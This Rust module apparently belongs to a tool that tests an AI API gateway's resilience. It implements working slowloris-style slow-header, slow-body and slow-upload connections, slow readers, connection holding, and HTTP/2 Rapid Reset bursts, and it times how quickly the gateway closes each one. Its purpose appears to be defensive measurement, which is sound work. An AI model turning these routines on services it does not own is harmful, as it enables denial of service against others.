//! Attackers below the level of HTTP requests: connections that are silent or send
//! little, readers that do not read, streams that are opened only to be reset. The
//! result is the time after which the gateway closes each connection.

use std::time::Duration;

use bytes::BytesMut;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, sleep_until, timeout, timeout_at};

use super::attack::Attack;
use crate::client::{Protocol, Target};
use crate::clock;
use crate::frames::{self, Ends, Frame, FrameKind};
use crate::run::chat_body;
use crate::scenario::{AttackKind, Slow};

/// Bytes that the socket of a slow reader buffers.
const SMALL_BUFFER: u32 = 4_096;

/// The start of an upload, up to the first byte of its file.
const UPLOAD: &str = "--drip\r\ncontent-disposition: form-data; name=\"purpose\"\r\n\r\nbatch\r\n\
    --drip\r\ncontent-disposition: form-data; name=\"file\"; filename=\"in.jsonl\"\r\n\r\n";

/// Bytes of an answer that are kept.
const MOST_ANSWER: u64 = 16 << 20;

/// Bytes of `HTTP/1.1 200`.
const STATUS_LINE: usize = 12;

/// Time between two of many connections. All at once would be more handshakes than
/// a gateway takes, and would come one after the other anyway.
const STAGGER: Duration = Duration::from_millis(2);

/// Streams that are opened and reset in one write.
const BATCH: usize = 64;

/// Bytes of one read.
const READ_AT_ONCE: usize = 64 * 1024;

/// Keeps one connection open to every target until the attack ends.
pub(super) async fn run(attack: Attack, targets: Vec<Target>) {
    let mut connections = JoinSet::new();
    for (number, target) in (0..).zip(targets) {
        let attack = attack.clone();
        connections.spawn(async move {
            if attack.attacker.kind == AttackKind::HoldConnections {
                sleep(STAGGER * number).await;
            }
            while clock::now() < attack.end {
                once(&attack, &target).await;
                sleep(pause(attack.attacker.kind)).await;
            }
        });
    }
    while connections.join_next().await.is_some() {}
}

/// Returns the time between the end of a connection and the next one.
fn pause(kind: AttackKind) -> Duration {
    match kind {
        // Thousands of refused connections would keep this machine busy.
        AttackKind::HoldConnections => Duration::from_secs(5),
        _ => Duration::from_millis(200),
    }
}

/// The end of a connection.
enum Ended {
    ByGateway,
    NotAtAll,
}

async fn once(attack: &Attack, target: &Target) {
    let opened = clock::now();
    let ended = match attack.attacker.kind {
        AttackKind::SlowReaders => read_slowly(attack, target).await,
        AttackKind::RapidReset => reset(attack, target).await.map(|ended| (opened, ended)),
        AttackKind::HoldConnections => hold(attack, target).await.map(|ended| (opened, ended)),
        _ => say_slowly(attack, target).await.map(|ended| (opened, ended)),
    };
    match ended {
        Ok((since, Ended::ByGateway)) => {
            attack.closed(since);
            attack.count("closed by the gateway");
        }
        Ok((since, Ended::NotAtAll)) => {
            attack.still_open(since);
            attack.count("open at the end");
        }
        Err(what) => attack.count(what),
    }
}

/// Sends nothing, or one header or one byte of body a second.
async fn say_slowly(attack: &Attack, target: &Target) -> Result<Ended, &'static str> {
    if attack.attacker.slow == Slow::Silent {
        let tcp = target.connect_tcp().await.map_err(|error| error.kind())?;
        return Ok(drip(tcp, attack.end, b"").await);
    }
    let mut tls = target.connect_tls(Protocol::Http1).await.map_err(|error| error.kind())?;
    let (path, kind) = match attack.attacker.slow {
        Slow::Upload => ("/v1/files", "multipart/form-data; boundary=drip"),
        _ => ("/v1/chat/completions", "application/json"),
    };
    let host = target.authority();
    let mut head =
        format!("POST {path} HTTP/1.1\r\nhost: {host}\r\ncontent-type: {kind}\r\n").into_bytes();
    let drop: &[u8] = match attack.attacker.slow {
        Slow::Body => {
            head.extend(b"authorization: ");
            head.extend(target.authorization().as_bytes());
            head.extend(b"\r\ncontent-length: 100000\r\n\r\n{");
            b" "
        }
        Slow::Upload => {
            head.extend(b"authorization: ");
            head.extend(target.authorization().as_bytes());
            head.extend(b"\r\ncontent-length: 1000000\r\n\r\n");
            head.extend(UPLOAD.as_bytes());
            b"x"
        }
        _ => b"x-filling: word\r\n",
    };
    if tls.write_all(&head).await.is_err() || tls.flush().await.is_err() {
        return Err("connection broke");
    }
    Ok(drip(tls, attack.end, drop).await)
}

/// Authenticates and keeps the connection open with a request now and then.
async fn hold(attack: &Attack, target: &Target) -> Result<Ended, &'static str> {
    let mut tls = target.connect_tls(Protocol::Http1).await.map_err(|error| error.kind())?;
    let mut request =
        format!("GET /v1/models HTTP/1.1\r\nhost: {}\r\nauthorization: ", target.authority())
            .into_bytes();
    request.extend(target.authorization().as_bytes());
    request.extend(b"\r\n\r\n");
    let pace = attack.attacker.pace.unwrap_or(Duration::from_secs(20));
    let mut buffer = vec![0; 4_096];
    let mut is_first = true;
    while clock::now() < attack.end {
        if tls.write_all(&request).await.is_err() || tls.flush().await.is_err() {
            return Ok(Ended::ByGateway);
        }
        let next = clock::now() + pace;
        loop {
            match timeout_at(next.min(attack.end), tls.read(&mut buffer)).await {
                Ok(Ok(0) | Err(_)) => return Ok(Ended::ByGateway),
                Ok(Ok(_)) if is_first => attack.count("authenticated"),
                Ok(Ok(_)) => {}
                Err(_) => break,
            }
            is_first = false;
        }
    }
    Ok(Ended::NotAtAll)
}

/// Sends `drop` every second and reads until the gateway closes the connection.
async fn drip(mut io: impl AsyncRead + AsyncWrite + Unpin, end: Instant, drop: &[u8]) -> Ended {
    let mut buffer = vec![0; 4096];
    let mut next = clock::now() + Duration::from_secs(1);
    loop {
        if clock::now() >= end {
            return Ended::NotAtAll;
        }
        match timeout_at(next.min(end), io.read(&mut buffer)).await {
            // The end of the connection, or an error with the same meaning.
            Ok(Ok(0) | Err(_)) => return Ended::ByGateway,
            // A refusal; the end of the connection follows.
            Ok(Ok(_)) => {}
            Err(_) => {
                next += Duration::from_secs(1);
                if !drop.is_empty()
                    && (io.write_all(drop).await.is_err() || io.flush().await.is_err())
                {
                    return Ended::ByGateway;
                }
            }
        }
    }
}

/// Requests a long stream and stops reading once the stream has begun, for as long
/// as the gateway should tolerate that. Then checks if the stream was cut off. The
/// time counts from the stream's beginning, since the request may wait in a queue
/// before.
async fn read_slowly(attack: &Attack, target: &Target) -> Result<(Instant, Ended), &'static str> {
    let target = target.with_receive_buffer(SMALL_BUFFER);
    let mut tls = target.connect_tls(Protocol::Http1).await.map_err(|error| error.kind())?;
    let attacker = &attack.attacker;
    let prompt = attacker.prompts().swap_remove(0);
    let most = attacker.ask.max_tokens.unwrap_or(900);
    let body = chat_body(&attack.ground.scenario.model, &prompt, most, true);
    // Twenty alternatives of each token make an event of one to two kilobytes, so that a slow
    // device fills the buffers, too.
    let body = [&b"{\"logprobs\":true,\"top_logprobs\":20,"[..], &body[1..]].concat();
    let mut request = format!(
        "POST /v1/chat/completions HTTP/1.1\r\nhost: {}\r\ncontent-type: application/json\r\n\
         content-length: {}\r\nauthorization: ",
        target.authority(),
        body.len()
    )
    .into_bytes();
    request.extend(target.authorization().as_bytes());
    request.extend(b"\r\n\r\n");
    request.extend(&body);
    if tls.write_all(&request).await.is_err() || tls.flush().await.is_err() {
        return Err("connection broke");
    }
    let mut answer = vec![0; STATUS_LINE];
    match timeout_at(attack.end, tls.read_exact(&mut answer)).await {
        Err(_) => return Err("waited in the queue to the end"),
        Ok(Err(_)) => return Err("closed without an answer"),
        Ok(Ok(_)) if !answer.ends_with(b" 200") => return Err(refused(&answer)),
        Ok(Ok(_)) => {}
    }
    let began = clock::now();
    let until = began + attacker.closed_within.unwrap_or(Duration::from_secs(20));
    sleep_until(until.min(attack.end)).await;
    if until > attack.end {
        return Ok((began, Ended::NotAtAll));
    }
    // A stream that was not cut off is complete within a moment.
    let mut bounded = tls.take(MOST_ANSWER);
    let read = timeout(Duration::from_secs(2), bounded.read_to_end(&mut answer)).await;
    match (read, contains(&answer, b"[DONE]")) {
        (_, true) => Err("answered completely: the answer fitted into the buffers"),
        (Ok(_), false) => Ok((began, Ended::ByGateway)),
        (Err(_), false) => Ok((began, Ended::NotAtAll)),
    }
}

fn refused(answer: &[u8]) -> &'static str {
    match answer.get(9..12) {
        Some(b"429") => "429",
        Some(b"503") => "503",
        Some(b"401") => "401",
        _ => "another refusal",
    }
}

fn contains(text: &[u8], what: &[u8]) -> bool {
    text.windows(what.len()).any(|window| window == what)
}

/// Opens and resets streams until the gateway closes the connection.
async fn reset(attack: &Attack, target: &Target) -> Result<Ended, &'static str> {
    let tls = target.connect_tls(Protocol::Http2).await.map_err(|error| error.kind())?;
    let (mut reading, mut writing) = tokio::io::split(tls);
    let writer = async {
        if writing.write_all(&frames::preface()).await.is_err() {
            return;
        }
        let mut stream = 1u32;
        while stream < 0x7fff_0000 && clock::now() < attack.end {
            let written = match attack.attacker.pace {
                None => burst(attack, target, &mut writing, &mut stream).await,
                Some(pace) => paced(attack, target, &mut writing, &mut stream, pace).await,
            };
            if written.is_err() {
                return;
            }
        }
    };
    // The gateway's frames are read, so that the gateway never waits for this side.
    let reader = async {
        let (mut buffer, mut goes) = (BytesMut::with_capacity(READ_AT_ONCE), false);
        loop {
            match timeout_at(attack.end, reading.read_buf(&mut buffer)).await {
                Err(_) => return Ended::NotAtAll,
                Ok(Ok(0) | Err(_)) => return Ended::ByGateway,
                Ok(Ok(_)) => {
                    while let Some(frame) = Frame::take(&mut buffer) {
                        goes |= frame.kind == FrameKind::GOAWAY;
                    }
                    if goes {
                        return Ended::ByGateway;
                    }
                }
            }
        }
    };
    tokio::pin!(reader);
    Ok(tokio::select! {
        ended = &mut reader => ended,
        () = writer => match timeout(Duration::from_secs(1), reader).await {
            Ok(ended) => ended,
            Err(_) => Ended::NotAtAll,
        },
    })
}

/// Sends headers and their resets, many in one write.
async fn burst(
    attack: &Attack,
    target: &Target,
    writing: &mut (impl AsyncWrite + Unpin),
    stream: &mut u32,
) -> std::io::Result<()> {
    let mut bytes = Vec::new();
    for _ in 0..BATCH {
        bytes.extend(head(target, *stream, Ends::Nothing));
        bytes.extend(frames::cancel(*stream));
        *stream += 2;
    }
    writing.write_all(&bytes).await?;
    writing.flush().await?;
    (0..BATCH).for_each(|_| attack.count("streams reset"));
    Ok(())
}

/// Sends complete requests and resets them after a while.
async fn paced(
    attack: &Attack,
    target: &Target,
    writing: &mut (impl AsyncWrite + Unpin),
    stream: &mut u32,
    pace: Duration,
) -> std::io::Result<()> {
    let attacker = &attack.attacker;
    let prompt = attacker.prompts().swap_remove(0);
    let body = chat_body(&attack.ground.scenario.model, &prompt, attacker.ask.most_tokens(), true);
    let (mut asked, mut resets) = (Vec::new(), Vec::new());
    for _ in 0..BATCH {
        asked.extend(head(target, *stream, Ends::Nothing));
        asked.extend(frames::data(*stream, &body, Ends::Stream));
        resets.extend(frames::cancel(*stream));
        *stream += 2;
    }
    writing.write_all(&asked).await?;
    writing.flush().await?;
    sleep(pace).await;
    writing.write_all(&resets).await?;
    writing.flush().await?;
    (0..BATCH).for_each(|_| attack.count("streams reset"));
    Ok(())
}

fn head(target: &Target, stream: u32, ends: Ends) -> Vec<u8> {
    let authorization = String::from_utf8_lossy(target.authorization().as_bytes());
    let fields = [
        (":method", "POST"),
        (":scheme", "https"),
        (":authority", target.authority()),
        (":path", "/v1/chat/completions"),
        ("content-type", "application/json"),
        ("authorization", &authorization),
    ];
    frames::headers(stream, &fields, ends)
}
